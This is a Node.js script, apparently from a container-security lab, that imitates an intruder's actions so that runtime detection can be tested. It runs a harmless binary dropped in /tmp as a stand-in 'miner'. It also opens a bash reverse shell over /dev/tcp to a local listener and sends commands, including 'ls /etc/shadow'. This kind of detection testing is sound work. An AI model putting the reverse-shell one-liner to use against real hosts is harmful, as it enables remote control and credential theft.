// What somebody does who got into this container; it harms nothing and nobody.
//   docker compose exec attacker node attack.mjs            all of it
//   docker compose exec attacker node attack.mjs miner      a program dropped into /tmp is run
//   docker compose exec attacker node attack.mjs shell      a reverse shell, and commands typed into it
import { spawn } from "node:child_process";
import { chmodSync, copyFileSync, rmSync } from "node:fs";
import { createServer } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

const COMMANDS = ["id -u", "cat /etc/hostname", "ls /etc/shadow"];
const acts = { miner, shell };
const wanted = process.argv.slice(2);
for (const name of wanted.length > 0 ? wanted : Object.keys(acts)) await acts[name]();

/** A copy of a harmless program, where everybody may write. */
async function miner() {
  const file = "/tmp/miner";
  copyFileSync("/bin/true", file);
  chmodSync(file, 0o755);
  const end = await ended(spawn(file, { stdio: "ignore" }));
  console.log(end === "SIGKILL" ? `miner: ${file} was killed` : `miner: ${file} ran (${end})`);
  rmSync(file);
}

/** Listens, has a shell connect to it, and types. The listener is here too, so that nothing leaves the container. */
async function shell() {
  const server = createServer();
  await new Promise((resolve) => server.listen(9001, "127.0.0.1", resolve));
  const connected = new Promise((resolve) => server.once("connection", resolve));
  const victim = spawn("bash", ["-c", "exec bash --norc -i >& /dev/tcp/127.0.0.1/9001 0>&1"], { stdio: "ignore" });
  const socket = await connected;
  let answer = "";
  socket.setEncoding("utf8").on("data", (text) => (answer += text));
  for (const command of COMMANDS) {
    await sleep(1000);
    answer = "";
    socket.write(`${command}; echo "[$?]"\n`);
    await sleep(500);
    const status = /\[(\d+)\]/.exec(answer.replaceAll(/echo "\[\$\?\]"/g, ""))?.[1];
    console.log(`shell: ${command}: ${status === "0" ? "done" : status === "137" ? "killed" : "failed"}`);
  }
  socket.destroy();
  server.close();
  await ended(victim);
}

function ended(child) {
  return new Promise((resolve) => child.once("exit", (code, signal) => resolve(signal ?? code)));
}
